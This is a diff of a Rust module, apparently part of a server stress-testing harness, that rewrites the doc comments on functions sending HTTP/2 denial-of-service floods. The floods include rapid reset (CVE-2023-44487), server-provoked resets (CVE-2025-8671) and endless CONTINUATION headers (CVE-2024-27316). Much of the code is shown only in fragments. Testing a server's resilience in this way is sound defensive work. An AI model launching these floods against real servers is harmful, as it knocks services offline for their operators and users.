@@ -1,4 +1,4 @@
-//! HTTP/2 frames that ask for nothing and cost something, thousands on each connection.
+//! HTTP/2 frames that request nothing but cost the server work, thousands per connection.
 
 use std::time::Duration;
 
@@ -14,19 +14,19 @@ use super::frames::{
 
 const CONNECTIONS: usize = 8;
 
-/// Frames of one connection, in pieces that are sent at once.
+/// Frames per connection, sent in `PIECES` chunks.
 pub(super) const FRAMES: usize = 20_000;
 const PIECES: usize = 20;
 
-/// How often each attacker comes with a new connection.
+/// Interval at which each attacker opens a new connection.
 const TURN: Duration = Duration::from_millis(250);
 
-/// The code of an RST_STREAM of whoever does not want the answer any more.
+/// The error code CANCEL of RST_STREAM: the client no longer wants the response.
 const CANCEL: [u8; 4] = [0, 0, 0, 8];
 
 const MINT: &str = "/ids/snowflake";
 
-/// The frames of one connection after its beginning.
+/// Sends these frames on each connection, after the HTTP/2 preface.
 fn flood(aim: &Aim, frames: impl Iterator<Item = Vec<u8>>) -> JoinSet<()> {
     let frames: Vec<_> = frames.take(FRAMES).collect();
     let pieces: Vec<_> = frames
@@ -71,7 +71,7 @@ pub(crate) fn priorities(aim: &Aim) -> JoinSet<()> {
     )
 }
 
-/// Of a request that was made once.
+/// Resets one request again and again.
 pub(crate) fn resets(aim: &Aim) -> JoinSet<()> {
     flood(
         aim,
@@ -80,13 +80,13 @@ pub(crate) fn resets(aim: &Aim) -> JoinSet<()> {
     )
 }
 
-/// Of a type that nobody has defined.
+/// Sends frames of an undefined type.
 pub(crate) fn unknown(aim: &Aim) -> JoinSet<()> {
     const TYPE: u8 = 0xbb;
     flood(aim, std::iter::repeat_with(|| frame(TYPE, 0, 0, &[])))
 }
 
-/// Of a request that never ends.
+/// Sends empty DATA frames of a request that never ends.
 pub(crate) fn empty_data(aim: &Aim) -> JoinSet<()> {
     let begun = frame(HEADERS, END_HEADERS, 1, &head_of_post(MINT));
     flood(
@@ -95,7 +95,7 @@ pub(crate) fn empty_data(aim: &Aim) -> JoinSet<()> {
     )
 }
 
-/// Requests, each reset at once: CVE-2023-44487.
+/// Resets each request at once: CVE-2023-44487.
 pub(crate) fn rapid_resets(aim: &Aim) -> JoinSet<()> {
     let streams = (0..).map(|stream| 2 * stream + 1);
     flood(
@@ -104,7 +104,7 @@ pub(crate) fn rapid_resets(aim: &Aim) -> JoinSet<()> {
     )
 }
 
-/// Requests that make the server reset them, by a window update of nothing: CVE-2025-8671.
+/// Sends a window update of zero for each request, which makes the server reset it: CVE-2025-8671.
 pub(crate) fn resets_made_by_the_server(aim: &Aim) -> JoinSet<()> {
     let streams = (0..).map(|stream| 2 * stream + 1);
     flood(
@@ -118,7 +118,7 @@ pub(crate) fn resets_made_by_the_server(aim: &Aim) -> JoinSet<()> {
     )
 }
 
-/// A head without end: CVE-2024-27316.
+/// Sends a header block that never ends: CVE-2024-27316.
 pub(crate) fn continuations(aim: &Aim) -> JoinSet<()> {
     let begun = frame(HEADERS, 0, 1, &head_of_post(MINT));
     let field = [&[0, 1, b'x', 100][..], &[b'y'; 100]].concat();
